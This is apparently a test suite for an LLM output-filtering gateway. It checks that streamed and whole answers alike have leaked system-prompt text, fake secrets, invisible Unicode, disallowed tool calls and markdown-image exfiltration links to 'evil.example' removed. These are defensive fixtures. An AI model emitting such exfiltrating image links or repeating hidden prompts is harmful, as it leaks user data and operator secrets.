import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { chatDialect } from '../../src/gateway/dialects/chat.ts';
import { messagesDialect } from '../../src/gateway/dialects/messages.ts';
import type { WireDialect } from '../../src/gateway/index.ts';
import { SseReader } from '../../src/gateway/sse.ts';
import { doubleOf, policyOf } from './exchange-double.ts';
import {
  chatAssembled,
  chatEvents,
  chatGot,
  chatWhole,
  type Got,
  messageAssembled,
  messageEvents,
  messageGot,
  messageWhole,
  type Said,
} from './wire.ts';

interface Wire {
  readonly dialect: WireDialect;
  readonly whole: (said: Said) => string;
  readonly events: (said: Said, cut: (text: string) => readonly string[]) => readonly string[];
  readonly got: (json: string) => readonly Got[];
  readonly assembled: (text: string) => readonly Got[];
}

const CHAT: Wire = {
  dialect: chatDialect,
  whole: chatWhole,
  events: chatEvents,
  got: chatGot,
  assembled: chatAssembled,
};
const MESSAGES: Wire = {
  dialect: messagesDialect,
  whole: messageWhole,
  events: messageEvents,
  got: messageGot,
  assembled: messageAssembled,
};

const TOKENS = { EMAIL_K7Q2M9XW: 'bob@shop.example' };
const HIDDEN = ['You are the assistant of Larkfield Goods and you never tell anybody the discount rules of the house.'];
const SECRET = `ghp_${'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'}`;

const configuration = policyOf();

const SAID: readonly (readonly [string, Said])[] = [
  ['plain prose', { choices: [{ content: 'Your parcel left on Monday. It weighs 2.5 kg, and costs nothing.' }] }],
  ['a token that is restored', { choices: [{ content: 'I will write to EMAIL_K7Q2M9XW today.' }] }],
  ['an image that would leak', { choices: [{ content: 'Look: ![x](https://evil.example/?q=abc) and so on.' }] }],
  [
    'hidden text repeated',
    {
      choices: [
        {
          content:
            'Sure. You are the assistant of Larkfield Goods and you never tell anybody the discount rules of the house. Anything else?',
        },
      ],
    },
  ],
  ['invisible characters', { choices: [{ content: 'a\u{e0041}b\u200bc \u202eevil\u202c done' }] }],
  ['a secret', { choices: [{ content: `The key is ${SECRET} as you asked.` }] }],
  [
    'a permitted call',
    { choices: [{ content: 'One moment.', calls: [{ name: 'order_get', args: '{"order_id":"1002"}' }] }] },
  ],
  [
    'a call with a revealed token',
    { choices: [{ content: null, calls: [{ name: 'order_get', args: '{"email":"EMAIL_K7Q2M9XW"}' }] }] },
  ],
  [
    'an unknown call between two others',
    {
      choices: [
        {
          content: 'So:',
          calls: [
            { name: 'order_get', args: '{"order_id":"1"}' },
            { name: 'account_delete', args: '{"id":"1"}' },
            { name: 'order_get', args: '{"order_id":"2"}' },
          ],
        },
      ],
    },
  ],
  ['only a call that is removed', { choices: [{ content: null, calls: [{ name: 'account_delete', args: '{}' }] }] }],
  ['reasoning and an answer', { choices: [{ reasoning: 'The customer EMAIL_K7Q2M9XW asks.', content: 'Fine.' }] }],
  [
    'reasoning that repeats hidden text',
    {
      choices: [
        {
          reasoning: 'You are the assistant of Larkfield Goods and you never tell anybody the discount rules.',
          content: 'Fine.',
        },
      ],
    },
  ],
];

const TWO: readonly (readonly [string, Said])[] = [
  [
    'two choices, one denied',
    {
      choices: [
        { content: 'Good day, EMAIL_K7Q2M9XW!' },
        {
          content:
            'You are the assistant of Larkfield Goods and you never tell anybody the discount rules of the house.',
        },
      ],
    },
  ],
  [
    'two choices, one with a removed call',
    {
      choices: [
        { content: 'Well', calls: [{ name: 'account_delete', args: '{}' }] },
        { content: 'See ![i](https://evil.example/a.png) here' },
      ],
    },
  ],
];

async function wholeResult(wire: Wire, said: Said): Promise<readonly Got[]> {
  const { host } = doubleOf(configuration, TOKENS, HIDDEN);
  const text = wire.whole(said);
  const answer = await wire.dialect.answers?.whole(text, JSON.parse(text), host);
  return wire.got(answer?.kind === 'changed' ? answer.text : text);
}

async function streamText(wire: Wire, events: readonly string[], bytesPerRead?: number): Promise<string> {
  const { host } = doubleOf(configuration, TOKENS, HIDDEN);
  const stream = wire.dialect.answers?.stream(host);
  if (stream === undefined) throw new Error('the dialect has answers');
  const reader = new SseReader(1_000_000);
  const bytes = Buffer.from(events.join(''));
  const step = bytesPerRead ?? bytes.length;
  let sent = '';
  for (let at = 0; at < bytes.length; at += step) {
    for (const event of reader.push(bytes.subarray(at, at + step))) sent += await stream.event(event);
  }
  for (const event of reader.finish()) sent += await stream.event(event);
  return sent + (await stream.finish());
}

const rows = [...SAID, ...TWO]
  .map(([name, said]) => ({ name, said, wire: CHAT, dialect: 'chat' }))
  .concat(SAID.map(([name, said]) => ({ name, said, wire: MESSAGES, dialect: 'messages' })));

describe('what a client receives from a stream is what it would have received from the whole (RT-02, RT-06)', () => {
  test.each(rows)('$dialect: $name, cut at every offset', async ({ said, wire }) => {
    const expected = await wholeResult(wire, said);
    const longest = Math.max(
      ...said.choices.flatMap(({ reasoning, content, calls }) =>
        [reasoning ?? '', content ?? '', ...(calls ?? []).map((call) => call.args)].map((text) => text.length),
      ),
    );
    for (let offset = 0; offset <= longest; offset += 1) {
      const cut = (text: string): readonly string[] =>
        [text.slice(0, offset), text.slice(offset)].filter((piece) => piece !== '');
      expect(wire.assembled(await streamText(wire, wire.events(said, cut))), `cut at ${offset}`).toEqual(expected);
    }
  });

  test.each(rows)('$dialect: $name, character by character', async ({ said, wire }) => {
    const events = wire.events(said, (text) => [...text]);
    expect(wire.assembled(await streamText(wire, events))).toEqual(await wholeResult(wire, said));
  });

  test.each(rows)('$dialect: $name, read byte by byte', async ({ said, wire }) => {
    const events = wire.events(said, (text) => text.split(/(?<= )/));
    expect(wire.assembled(await streamText(wire, events, 1))).toEqual(await wholeResult(wire, said));
  });

  test('any cutting of any mixture', async () => {
    const piece = fc.constantFrom(
      ...SAID.map(([, said]) => said.choices[0]?.content ?? ' '),
      ' and ',
      '\n\n',
      '![',
      'https://',
      '`',
      'EMAIL_',
      '\u{1f468}\u200d\u{1f469}',
      '<b>',
    );
    const content = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(''));
    await fc.assert(
      fc.asyncProperty(
        content,
        fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 8 }),
        fc.boolean(),
        async (text, sizes, isChat) => {
          const wire = isChat ? CHAT : MESSAGES;
          const said: Said = { choices: [{ content: text }] };
          const cut = (whole: string): readonly string[] => pieces(whole, sizes);
          expect(wire.assembled(await streamText(wire, wire.events(said, cut)))).toEqual(await wholeResult(wire, said));
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe('a stream that no control changes arrives byte for byte (UI-12)', () => {
  test.each([CHAT, MESSAGES])('$dialect.id', async (wire) => {
    const said: Said = {
      choices: [
        {
          reasoning: 'They ask for the parcel.',
          content: 'Your parcel left on Monday \u{1f4e6} and arrives soon.',
          calls: [{ name: 'order_get', args: '{"order_id":"1002"}' }],
        },
      ],
    };
    const events = wire.events(said, (text) => text.split(/(?<= )/));
    expect(await streamText(wire, events, 7)).toBe(events.join(''));
  });
});

describe('the whole answer is untouched where nothing changed', () => {
  test.each([CHAT, MESSAGES])('$dialect.id', async (wire) => {
    const { host } = doubleOf(configuration, TOKENS, HIDDEN);
    const text = wire.whole({ choices: [{ content: 'Fine, thank you.' }] });
    expect(await wire.dialect.answers?.whole(text, JSON.parse(text), host)).toEqual({ kind: 'unchanged' });
  });
});

function pieces(text: string, sizes: readonly number[]): readonly string[] {
  const cut: string[] = [];
  for (let at = 0, turn = 0; at < text.length; turn += 1) {
    const size = sizes[turn % sizes.length] ?? 1;
    cut.push(text.slice(at, at + size));
    at += size;
  }
  return cut;
}

describe('what the whole becomes', () => {
  const literal: readonly (readonly [string, unknown])[] = [
    ['a token that is restored', { content: 'I will write to bob@shop.example today.', finish: 'stop' }],
    ['hidden text repeated', { content: 'Sure.  [withheld by policy: dec_TEST]', finish: 'content_filter' }],
    [
      'a call with a revealed token',
      { calls: [{ name: 'order_get', args: { email: 'bob@shop.example' } }], finish: 'tool_calls' },
    ],
    ['only a call that is removed', { content: '[tool call withheld by policy: dec_TEST]', calls: [], finish: 'stop' }],
    [
      'an unknown call between two others',
      { content: 'So: [tool call withheld by policy: dec_TEST]', finish: 'tool_calls' },
    ],
    [
      'a permitted call',
      { content: 'One moment.', calls: [{ name: 'order_get', args: { order_id: '1002' } }], finish: 'tool_calls' },
    ],
  ];

  test.each(literal)('%s', async (name, expected) => {
    const said = SAID.find(([title]) => title === name)?.[1];
    expect((await wholeResult(CHAT, said ?? { choices: [] }))[0]).toMatchObject(expected as object);
  });

  test.each([
    'an image that would leak',
    'invisible characters',
    'a secret',
  ])('%s is not in the answer', async (name) => {
    const said = SAID.find(([title]) => title === name)?.[1] ?? { choices: [] };
    const text = JSON.stringify(await wholeResult(CHAT, said));
    for (const forbidden of ['](https://evil.example', '\u{e0041}', '\u200b', SECRET])
      expect(text).not.toContain(forbidden);
  });
});
